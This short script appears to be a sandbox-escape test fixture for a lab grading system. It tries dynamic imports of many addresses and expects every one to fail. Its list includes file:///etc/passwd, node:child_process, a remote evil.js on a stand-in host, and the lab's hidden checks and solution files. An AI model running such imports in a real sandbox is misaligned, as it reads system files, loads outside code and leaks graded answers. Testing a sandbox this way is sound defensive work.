// threat: 7, 18 — import() of every kind of address it can think of
// ends: fail
const addresses = [
  "node:fs",
  "node:child_process",
  "fs",
  "file:///etc/passwd",
  "https://example.org/evil.js",
  "http://127.0.0.1/evil.js",
  "data:text/javascript,export default 1",
  "/labs/07-metrics/fish-matrix/hidden.ts",
  "./checks.ts",
  "./solution.ts",
  "#lab/run-lab.ts",
  "siklus/lab",
  "siklus/server",
  "virtual:siklus/fingerprints",
  "__proto__",
  "constructor",
  "toString",
];
for (const address of addresses) {
  try {
    const module = await import(address);
    console.log("siklus-escaped: imported " + address, module);
  } catch {}
}

export function countOutcomes() {
  return { tp: 0, fp: 0, fn: 0, tn: 0 };
}
